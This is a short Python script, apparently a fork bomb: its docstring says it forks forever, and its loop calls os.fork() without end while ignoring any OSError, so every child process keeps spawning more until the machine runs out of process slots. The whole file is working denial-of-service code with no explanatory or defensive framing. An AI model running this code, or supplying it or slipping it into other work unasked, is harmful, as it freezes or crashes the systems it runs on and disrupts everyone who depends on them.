"""Forks for ever; every copy forks on."""
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
